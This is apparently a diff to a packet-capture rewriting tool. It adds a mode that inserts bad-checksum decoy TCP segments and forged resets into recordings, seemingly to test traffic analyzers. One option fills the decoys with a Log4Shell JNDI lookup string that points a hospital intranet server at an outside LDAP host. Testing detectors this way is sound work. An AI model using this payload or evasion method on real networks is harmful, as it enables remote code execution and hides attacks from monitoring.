@@ -9,11 +9,13 @@ usage: reshape.py WHAT INPUT OUTPUT [NUMBER...]
   stretch GAP N    pauses longer than GAP seconds become N times as long
   back N SEC       the clock jumps back by SEC seconds before record N
   fragment BYTES   every IPv4 packet larger than that in fragments of at most BYTES; every third packet's fragments in reverse order
+  forge KIND       before every TCP segment with data one with other data and a wrong checksum, as the receiver drops it: KIND 0
+                   scrambles the data, 1 asks a web server for what an exploit asks for; and a forged reset before the first
 """
 import struct
 import sys
 
-from scapy.all import IP, Ether, fragment
+from scapy.all import IP, TCP, Ether, fragment
 
 what, source, target, *numbers = sys.argv[1:]
 numbers = [int(n) for n in numbers]
@@ -78,6 +80,36 @@ def fragmented(size):
             yield when + nth, len(piece), piece
 
 
+BAIT = b"GET /?name=${jndi:ldap://10.20.1.66:1389/ward} HTTP/1.1\r\nHost: intranet.hospital.example\r\n\r\n"
+
+
+def forged(kind):
+    """What a receiver drops unseen; only in a recording does it look like a part of the stream."""
+    begun = set()
+    for _, when, length, packet in records():
+        frame = Ether(packet)
+        if TCP in frame and IP in frame and frame[IP].len > 4 * (frame[IP].ihl + frame[TCP].dataofs):
+            head = frame[IP].ihl * 4 + frame[TCP].dataofs * 4 + 14
+            data = packet[head : 14 + frame[IP].len]
+            other = bytes(byte ^ 0x55 for byte in data) if kind == 0 else (BAIT * (len(data) // len(BAIT) + 1))[: len(data)]
+            stream = (frame[IP].src, frame[TCP].sport, frame[IP].dst, frame[TCP].dport)
+            if stream not in begun:
+                begun.add(stream)
+                yield when, length, wrong(frame, packet[:head], b"", "R")
+            yield when, length, wrong(frame, packet[:head], other, frame[TCP].flags)
+        yield when, length, packet
+
+
+def wrong(frame, head, data, flags):
+    fake = Ether(head + data)
+    fake[IP].len = len(head) - 14 + len(data)
+    fake[TCP].flags = flags
+    del fake[IP].chksum, fake[TCP].chksum
+    right = Ether(bytes(fake))[TCP].chksum
+    fake[TCP].chksum = right ^ 0x5A5A
+    return bytes(fake)
+
+
 if what == "cut":
     open(target, "wb").write(data[: numbers[0]])
 elif what == "damage":
@@ -91,6 +123,8 @@ elif what == "back":
     write(jumped(*numbers))
 elif what == "fragment":
     write(fragmented(numbers[0]))
+elif what == "forge":
+    write((when, len(packet), packet) for when, _, packet in forged(numbers[0]))
 elif what == "swap":
     other = ">" if order == "<" else "<"
     with open(target, "wb") as out:
